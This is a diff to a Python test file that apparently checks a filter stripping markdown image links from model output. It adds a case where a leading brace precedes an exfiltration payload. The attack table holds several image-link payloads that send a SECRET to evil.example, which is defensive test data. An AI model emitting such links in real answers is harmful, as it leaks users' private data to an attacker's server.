@@ -29,6 +29,7 @@ ATTACKS = {
     "data": "![x](data:image/svg+xml;base64,SECRET)",
     "other scheme": "![x](ftp://evil.example/SECRET)",
     "unclosed": "![x](https://evil.example/?d=SECRET",
+    "looks like json": "{see} ![x](https://evil.example/?d=SECRET)",
     "double": "![x](https://evil.example/](https://evil.example/?d=SECRET)",
 }
 LIVE = re.compile(r"\]\(")
@@ -94,6 +95,12 @@ def test_honest_text_stays(text: str) -> None:
     assert SET.answer(made, {"content": text}) == {"content": text}
     stream = SET.stream(made)
     assert "".join(stream.feed("content", char) for char in text) + stream.finish("content") == text
+
+
+def test_a_brace_in_front_changes_nothing() -> None:
+    """R-K1: text that begins like JSON is text all the same."""
+    shaped: Any = SET.answer(passage(prompt("x"), to="gpt"), {"content": "{ ![x](https://evil.example/?d=SECRET)"})
+    assert "SECRET" not in shaped["content"]
 
 
 def test_what_a_model_hands_to_tools_stays() -> None:
